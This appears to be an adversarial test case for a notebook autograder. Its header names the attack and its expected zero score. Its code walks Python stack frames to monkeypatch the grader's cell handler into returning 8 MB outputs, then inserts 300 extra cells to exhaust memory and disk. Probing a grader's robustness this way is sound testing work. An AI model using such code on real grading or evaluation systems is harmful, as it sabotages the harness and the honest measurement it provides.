# attack: hundreds of own cells, each of which says eight megabytes
# points: none
# must not: fill the grader's memory or disk with outputs

# %% row_stats
import sys
frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "channel"):
    frame = frame.f_back

async def cell(self, request):
    return {"status": "ok"}, b'[{"msg_type": "stream", "content": {"name": "stdout", "text": "' + b"x" * (8 << 20) + b'"}}]'

type(frame.f_locals["self"])._cell = cell

# %% change
def change(nb, folder):
    import nbformat
    at = next(i for i, cell in enumerate(nb.cells) if cell.metadata.get("nbgrader", {}).get("grade_id") == "row_stats_test")
    nb.cells[at + 1:at + 1] = [nbformat.v4.new_code_cell("1") for _ in range(300)]
